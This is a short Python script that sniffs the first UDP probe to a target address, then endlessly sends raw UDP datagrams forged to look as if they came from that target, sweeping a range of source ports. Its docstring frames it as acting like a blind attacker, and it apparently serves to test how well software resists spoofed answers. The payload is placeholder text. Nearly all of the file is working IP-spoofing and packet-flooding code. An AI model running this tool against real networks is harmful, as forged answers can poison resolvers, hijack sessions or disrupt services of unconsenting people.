#!/usr/bin/env python3
"""Forges answers of a target: forge.py INTERFACE TARGET FIRST_PORT LAST_PORT [PAUSE]

Waits for the first UDP probe to TARGET that passes INTERFACE and learns from it who asks from which port, as a blind
attacker would by trying all of them. Then sends datagrams from TARGET to that port, from each of the ports in turn, a
thousand in a second or with another pause between them, until it is killed.
"""
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def first_probe(interface, target):
    """The source address of the first probe, and its port."""
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    seen.bind((interface, 0x0800))
    print("listening", flush=True)
    while True:
        packet = seen.recv(65535)
        length = (packet[0] & 15) * 4
        if packet[9] == socket.IPPROTO_UDP and packet[16:20] == target:
            return packet[12:16], struct.unpack_from("!H", packet, length)[0]


def main():
    interface, target, first, last = sys.argv[1:5]
    pause = float(sys.argv[5]) if len(sys.argv) > 5 else 0.001
    target = socket.inet_aton(target)
    prober, port = first_probe(interface, target)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    payload = b"not the target's"
    while True:
        for source in range(int(first), int(last) + 1):
            udp = struct.pack("!HHHH", source, port, 8 + len(payload), 0) + payload
            head = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 55, socket.IPPROTO_UDP, 0, target, prober
            )
            head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
            out.sendto(head + udp, (socket.inet_ntoa(prober), 0))
            time.sleep(pause)


main()
